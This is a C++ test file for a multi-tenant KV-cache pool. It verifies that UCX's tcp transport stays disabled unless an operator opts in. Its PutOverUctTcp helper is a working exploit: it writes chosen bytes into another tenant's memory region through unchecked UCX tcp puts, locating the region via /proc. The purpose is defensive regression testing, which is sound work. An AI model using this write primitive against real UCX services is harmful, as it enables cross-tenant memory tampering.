// UCX 1.13's tcp transport carries one-sided puts of its own: a peer's PUT request names an
// address and length, and the receiving process writes the bytes there, unchecked (uct tcp's
// put-request handler), whatever the UCP context's features. So any process that can reach a
// UCX tcp listener can write anywhere in that process. These tests run a real pool and attack
// it as a tenant would, with UCX itself: Alice, whose Handshake gives the pool's UCX address,
// puts bytes at Bob's region (its address read from /proc, which stands in for any leak).
#include <arpa/inet.h>
#include <ucp/api/ucp.h>
#include <ucs/async/async_fwd.h>
#include <uct/api/uct.h>

#include <algorithm>
#include <chrono>
#include <cstdlib>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <optional>
#include <set>
#include <string>
#include <vector>

#include "absl/status/status.h"
#include "absl/strings/match.h"
#include "absl/strings/str_cat.h"
#include "absl/strings/str_split.h"
#include "grpcpp/grpcpp.h"
#include "gtest/gtest.h"
#include "kv-pool/client/pool_kv_store.h"
#include "kv-pool/client/ucx_config.h"
#include "kv-pool/server/pool_process.h"
#include "proto/kvpool.grpc.pb.h"

namespace dd::kvpool {
namespace {

using testing_util::kAlice;
using testing_util::kBob;
using testing_util::PoolProcess;

const KvLayout kLayout{.n_layers = 1, .n_kv_heads = 1, .head_dim = 32, .chunk_tokens = 8};

v1::HandshakeResponse Handshake(PoolProcess& pool, const char* token) {
  v1::HandshakeResponse hs;
  grpc::ClientContext ctx;
  ctx.AddMetadata("authorization", std::string("Bearer ") + token);
  v1::HandshakeRequest req;
  req.set_ucx_shm_settings(UcxSharedMemorySettings());
  req.set_ucx_tcp_settings(UcxTcpSettings());
  EXPECT_TRUE(pool.Stub()->Handshake(&ctx, req, &hs).ok());
  return hs;
}

// Where the pool process maps the region labelled `name` (its memfd), or nullopt.
std::optional<uint64_t> MappedAt(pid_t pid, const std::string& name) {
  std::ifstream maps("/proc/" + std::to_string(pid) + "/maps");
  for (std::string line; std::getline(maps, line);) {
    if (line.find("memfd:" + name) != std::string::npos) return std::stoull(line.substr(0, line.find('-')), nullptr, 16);
  }
  return std::nullopt;
}

// The TCP ports `pid` listens on (its sockets in /proc/<pid>/net/tcp and tcp6, state LISTEN),
// on the IPv4 loopback only or on any address.
std::vector<uint16_t> Listeners(pid_t pid, bool loopback_only) {
  const std::string proc = "/proc/" + std::to_string(pid);
  std::set<std::string> inodes;
  std::error_code ec;
  for (const auto& fd : std::filesystem::directory_iterator(proc + "/fd", ec)) {
    const std::string link = std::filesystem::read_symlink(fd.path(), ec).string();
    if (absl::StartsWith(link, "socket:[")) inodes.insert(link.substr(8, link.size() - 9));
  }
  std::vector<uint16_t> ports;
  for (const char* table : {"/net/tcp", "/net/tcp6"}) {
    if (loopback_only && std::string(table) == "/net/tcp6") continue;
    std::ifstream tcp(proc + table);
    std::string line;
    std::getline(tcp, line);  // the header
    while (std::getline(tcp, line)) {
      std::vector<std::string> f = absl::StrSplit(line, ' ', absl::SkipEmpty());
      if (f.size() < 10 || f[3] != "0A" || inodes.count(f[9]) == 0) continue;
      if (loopback_only && !absl::StartsWith(f[1], "0100007F:")) continue;
      ports.push_back(static_cast<uint16_t>(std::stoul(f[1].substr(f[1].rfind(':') + 1), nullptr, 16)));
    }
  }
  return ports;
}
std::vector<uint16_t> LoopbackListeners(pid_t pid) { return Listeners(pid, /*loopback_only=*/true); }

// An attacker below UCP: UCX's tcp transport alone (no UCP, no wireup, no key), connected to
// `port` on the loopback, puts `bytes` at `address` in the listening process. OK once the put
// is flushed; an error when nothing listens there.
absl::Status PutOverUctTcp(uint16_t port, uint64_t address, const std::string& bytes) {
  ucs_async_context_t* async = nullptr;
  uct_worker_h worker = nullptr;
  uct_component_h* components = nullptr;
  unsigned n_components = 0;
  uct_md_h md = nullptr;
  uct_iface_h iface = nullptr;
  uct_ep_h ep = nullptr;
  uct_completion_t done{[](uct_completion_t*) {}, 1, UCS_OK};  // outlives the endpoint
  absl::Status result = absl::InternalError("no tcp component in UCX");
  if (ucs_async_context_create(UCS_ASYNC_MODE_THREAD_SPINLOCK, &async) != UCS_OK ||
      uct_worker_create(async, UCS_THREAD_MODE_SINGLE, &worker) != UCS_OK ||
      uct_query_components(&components, &n_components) != UCS_OK) {
    result = absl::InternalError("uct setup");
  }
  for (unsigned c = 0; worker != nullptr && c < n_components && md == nullptr; ++c) {
    uct_component_attr_t attr{};
    attr.field_mask = UCT_COMPONENT_ATTR_FIELD_NAME;
    if (uct_component_query(components[c], &attr) != UCS_OK || std::string(attr.name) != "tcp") continue;
    uct_md_config_t* md_config = nullptr;
    if (uct_md_config_read(components[c], nullptr, nullptr, &md_config) != UCS_OK) continue;
    if (uct_md_open(components[c], "tcp", md_config, &md) != UCS_OK) md = nullptr;
    uct_config_release(md_config);
  }
  uct_iface_config_t* iface_config = nullptr;
  if (md != nullptr && uct_md_iface_config_read(md, "tcp", nullptr, nullptr, &iface_config) == UCS_OK) {
    uct_iface_params_t params{};
    params.field_mask = UCT_IFACE_PARAM_FIELD_OPEN_MODE | UCT_IFACE_PARAM_FIELD_DEVICE;
    params.open_mode = UCT_IFACE_OPEN_MODE_DEVICE;
    params.mode.device.tl_name = "tcp";
    params.mode.device.dev_name = "lo";
    if (uct_iface_open(md, worker, &params, iface_config, &iface) != UCS_OK) iface = nullptr;
    if (iface != nullptr) uct_iface_progress_enable(iface, UCT_PROGRESS_SEND | UCT_PROGRESS_RECV);
    uct_config_release(iface_config);
  }
  uct_iface_attr_t attr{};
  if (iface != nullptr && uct_iface_query(iface, &attr) == UCS_OK) {
    // Our own loopback address, with the target's port where ours is (the iface address holds
    // the listening port, in network order).
    std::vector<uint8_t> dev(attr.device_addr_len), addr(attr.iface_addr_len);
    const std::vector<uint16_t> mine = LoopbackListeners(getpid());
    bool aimed = false;
    if (uct_iface_get_device_address(iface, reinterpret_cast<uct_device_addr_t*>(dev.data())) == UCS_OK &&
        uct_iface_get_address(iface, reinterpret_cast<uct_iface_addr_t*>(addr.data())) == UCS_OK) {
      for (uint16_t own : mine) {
        const uint16_t own_be = htons(own), target_be = htons(port);
        for (size_t i = 0; !aimed && i + 2 <= addr.size(); ++i) {
          if (std::memcmp(addr.data() + i, &own_be, 2) == 0) {
            std::memcpy(addr.data() + i, &target_be, 2);
            aimed = true;
          }
        }
      }
    }
    uct_ep_params_t ep_params{};
    ep_params.field_mask = UCT_EP_PARAM_FIELD_IFACE | UCT_EP_PARAM_FIELD_DEV_ADDR | UCT_EP_PARAM_FIELD_IFACE_ADDR;
    ep_params.iface = iface;
    ep_params.dev_addr = reinterpret_cast<const uct_device_addr_t*>(dev.data());
    ep_params.iface_addr = reinterpret_cast<const uct_iface_addr_t*>(addr.data());
    if (!aimed) {
      result = absl::InternalError("could not find our own port in UCX's tcp iface address");
    } else if (uct_ep_create(&ep_params, &ep) != UCS_OK) {
      result = absl::UnavailableError("uct_ep_create");
    } else {
      uct_iov_t iov{const_cast<char*>(bytes.data()), bytes.size(), UCT_MEM_HANDLE_NULL, bytes.size(), 1};
      const auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(5);
      ucs_status_t st = UCS_ERR_NO_RESOURCE;
      while (st == UCS_ERR_NO_RESOURCE && std::chrono::steady_clock::now() < deadline) {  // while connecting
        st = uct_ep_put_zcopy(ep, &iov, 1, address, /*rkey=*/0, &done);
        if (st == UCS_ERR_NO_RESOURCE) uct_worker_progress(worker);
      }
      if (st == UCS_OK) done.count = 0;
      while (done.count > 0 && std::chrono::steady_clock::now() < deadline) uct_worker_progress(worker);
      ucs_status_t fl = UCS_INPROGRESS;  // the put lands when the receiver acknowledges it
      while (done.count == 0 && fl != UCS_OK && std::chrono::steady_clock::now() < deadline) {
        fl = uct_ep_flush(ep, 0, nullptr);
        uct_worker_progress(worker);
      }
      if (st != UCS_OK && st != UCS_INPROGRESS) {
        result = absl::UnavailableError(absl::StrCat("put: ", ucs_status_string(st)));
      } else if (done.count > 0 || done.status != UCS_OK || fl != UCS_OK) {
        result = absl::UnavailableError("the put did not complete within 5 s");
      } else {
        result = absl::OkStatus();
      }
    }
  }
  if (ep != nullptr) uct_ep_destroy(ep);
  if (iface != nullptr) uct_iface_close(iface);
  if (md != nullptr) uct_md_close(md);
  if (components != nullptr) uct_release_component_list(components);
  if (worker != nullptr) uct_worker_destroy(worker);
  if (async != nullptr) ucs_async_context_destroy(async);
  return result;
}

// The port of "host:port".
uint16_t PortOf(const std::string& hostport) {
  return static_cast<uint16_t>(std::stoul(hostport.substr(hostport.rfind(':') + 1)));
}

// The pool's UCX tcp listener on the loopback: its loopback listeners but gRPC's and the
// metrics'; 0 when there is none.
uint16_t UcxTcpPort(PoolProcess& pool) {
  for (uint16_t p : LoopbackListeners(pool.pid())) {
    if (p != PortOf(pool.address()) && p != PortOf(pool.metrics())) return p;
  }
  return 0;
}

// Bob writes block 0 of a sequence through the shm:// path and reads it back after Alice's put.
struct BobsBlock {
  explicit BobsBlock(PoolProcess& pool) {
    auto s = ConnectPoolKvStore({.address = pool.address(), .token = kBob, .transport = PoolTransport::kShm,
                                 .first_extent_chunks = 1});
    EXPECT_TRUE(s.ok()) << s.status();
    if (!s.ok()) return;
    store = std::move(*s);
    auto id = store->Open(kLayout);
    EXPECT_TRUE(id.ok()) << id.status();
    if (!id.ok()) return;
    seq = *id;
    std::vector<float> zeros((kLayout.block_bytes() / 4), 0.0f);
    EXPECT_TRUE(store->Write(seq, {0, 0, 0}, zeros.data()).ok());
  }
  // Whether block 0 (anywhere in Bob's region) now holds `marker`.
  bool Holds(const std::string& marker) {
    std::vector<float> got((kLayout.block_bytes() / 4));
    const ChunkRef r{0, 0, 0};
    auto id = store->Gather(seq, {&r, 1}, got.data(), Priority::kUrgent);
    if (!id.ok() || !store->Wait(*id).ok()) return false;
    return std::memcmp(got.data(), marker.data(), marker.size()) == 0;
  }
  std::unique_ptr<KvStore> store;
  SequenceId seq{};
};

// Bob's block 0 lies at the start of his region (his first extent, one chunk of one block).
constexpr char kMarker[] = "written by alice over ucx tcp";

// Runs with UCX_TLS unset (the pool and the clients read it), restoring it after.
class UcxTcpExposureTest : public ::testing::Test {
 protected:
  void SetUp() override {
    if (const char* v = std::getenv("UCX_TLS")) saved_ = v;
    unsetenv("UCX_TLS");
  }
  void TearDown() override {
    if (saved_) setenv("UCX_TLS", saved_->c_str(), 1);
    else unsetenv("UCX_TLS");
  }
  std::optional<std::string> saved_;
};

// What an attack on `pool` needs: Bob's block written (to see whether it changed), his region's
// address in the pool, the pool's tcp settings as Alice's Handshake reports them, and the
// pool's UCX tcp port on the loopback (0: none).
struct Target {
  std::unique_ptr<BobsBlock> block;
  uint64_t bobs_region = 0;
  std::string tcp_settings;
  uint16_t port = 0;
};
void Aim(PoolProcess& pool, Target* t) {
  ASSERT_FALSE(pool.address().empty());
  const v1::HandshakeResponse alice = Handshake(pool, kAlice), bob = Handshake(pool, kBob);
  t->tcp_settings = alice.ucx_tcp_settings();
  t->block = std::make_unique<BobsBlock>(pool);
  ASSERT_NE(t->block->store, nullptr);
  const std::optional<uint64_t> base = MappedAt(pool.pid(), bob.shm_name());
  ASSERT_TRUE(base.has_value()) << bob.shm_name();
  t->bobs_region = *base;
  t->port = UcxTcpPort(pool);
}

TEST_F(UcxTcpExposureTest, APoolServesNoTcpUnlessItsOperatorTrustsTheNetwork) {
  PoolProcess pool;
  Target t;
  ASSERT_NO_FATAL_FAILURE(Aim(pool, &t));
  EXPECT_EQ(t.tcp_settings, std::string(kNoTcp));
  EXPECT_EQ(t.port, 0) << "the pool listens for UCX over tcp";
  if (t.port != 0) {
    const absl::Status put = PutOverUctTcp(t.port, t.bobs_region, kMarker);
    EXPECT_FALSE(put.ok()) << "the put landed";
  }
  EXPECT_FALSE(t.block->Holds(kMarker));
}

// With --ucx_tcp the hazard is real: the put lands in Bob's region. The flag's help and the
// README say so; this test keeps them honest (it fails once UCX checks what a peer may write).
TEST_F(UcxTcpExposureTest, WithUcxTcpAnyPeerWritesAnyTenantsRegion) {
  PoolProcess pool(30000, "8MiB", {"--ucx_tcp"});
  Target t;
  ASSERT_NO_FATAL_FAILURE(Aim(pool, &t));
  EXPECT_NE(t.tcp_settings, std::string(kNoTcp));
  ASSERT_NE(t.port, 0);
  ASSERT_TRUE(PutOverUctTcp(t.port, t.bobs_region, kMarker).ok());
  EXPECT_TRUE(t.block->Holds(kMarker));
}

// A pool listens on the TCP ports it prints and no others: gRPC once opened a second socket per
// address (a SO_REUSEPORT clone), which with port 0 landed on a random port printed nowhere.
TEST_F(UcxTcpExposureTest, APoolListensOnlyOnThePortsItPrints) {
  PoolProcess pool(30000, "8MiB", {"--ucx=false"});
  ASSERT_FALSE(pool.address().empty());
  std::vector<uint16_t> ports = Listeners(pool.pid(), /*loopback_only=*/false);
  std::sort(ports.begin(), ports.end());
  std::vector<uint16_t> printed = {PortOf(pool.address()), PortOf(pool.metrics())};
  std::sort(printed.begin(), printed.end());
  EXPECT_EQ(ports, printed);
}

// However UCX_TLS asks for tcp, a pool without --ucx_tcp either refuses to start (UCX_TLS names
// tcp) or listens on no more TCP ports, on any address, than a pool without UCX (UCX's own
// spellings: "^all" loads every transport, "\\tcp" and "tcp:aux" load tcp).
TEST_F(UcxTcpExposureTest, NoFormOfUcxTlsOpensTcpWithoutTheFlag) {
  size_t without_ucx = 0;
  {
    PoolProcess pool(30000, "8MiB", {"--ucx=false"});
    ASSERT_FALSE(pool.address().empty());
    without_ucx = Listeners(pool.pid(), /*loopback_only=*/false).size();
  }
  {
    PoolProcess pool(30000, "8MiB", {"--ucx_tcp"});  // the count sees UCX's tcp listeners
    ASSERT_FALSE(pool.address().empty());
    EXPECT_GT(Listeners(pool.pid(), /*loopback_only=*/false).size(), without_ucx);
  }
  for (const char* tls : {"all", "^all", "^sm", "\\tcp,sm,self", "sm,self,tcp:aux", "tcp"}) {
    setenv("UCX_TLS", tls, 1);
    const bool names_tcp = TlsNamesTcp();
    PoolProcess pool;
    unsetenv("UCX_TLS");
    EXPECT_EQ(pool.address().empty(), names_tcp) << tls << (names_tcp ? ": started" : ": did not start");
    if (pool.address().empty()) continue;
    EXPECT_EQ(Listeners(pool.pid(), /*loopback_only=*/false).size(), without_ucx) << tls;
    EXPECT_EQ(Handshake(pool, kAlice).ucx_tcp_settings(), std::string(kNoTcp)) << tls;
  }
}

// A worker that can only speak tcp, against a pool that serves none: refused with the reason,
// before any UCX context exists; the same worker without the restriction connects over shared
// memory, and its context loads no tcp (nothing of it listens).
TEST_F(UcxTcpExposureTest, AWorkerLoadsNoTcpForAPoolThatServesNone) {
  PoolProcess pool;
  ASSERT_FALSE(pool.address().empty());
  setenv("UCX_TLS", "tcp", 1);
  auto refused = ConnectPoolKvStore({.address = pool.address(), .token = kAlice, .transport = PoolTransport::kUcx,
                                     .first_extent_chunks = 1});
  unsetenv("UCX_TLS");
  ASSERT_FALSE(refused.ok());
  EXPECT_EQ(refused.status().code(), absl::StatusCode::kFailedPrecondition) << refused.status();
  EXPECT_NE(refused.status().message().find("--ucx_tcp"), std::string::npos) << refused.status();
  const size_t listening = LoopbackListeners(getpid()).size();
  auto s = ConnectPoolKvStore({.address = pool.address(), .token = kAlice, .transport = PoolTransport::kUcx,
                               .first_extent_chunks = 1});
  ASSERT_TRUE(s.ok()) << s.status();
  auto seq = (*s)->Open(kLayout);
  ASSERT_TRUE(seq.ok()) << seq.status();
  std::vector<float> block((kLayout.block_bytes() / 4), 7.0f), got((kLayout.block_bytes() / 4));
  const ChunkRef r{0, 0, 0};
  ASSERT_TRUE((*s)->Write(*seq, r, block.data()).ok());
  auto id = (*s)->Gather(*seq, {&r, 1}, got.data(), Priority::kUrgent);
  ASSERT_TRUE(id.ok() && (*s)->Wait(*id).ok());
  EXPECT_EQ(got, block);
  EXPECT_EQ(LoopbackListeners(getpid()).size(), listening) << "the worker's UCX listens on tcp";
}

}  // namespace
}  // namespace dd::kvpool
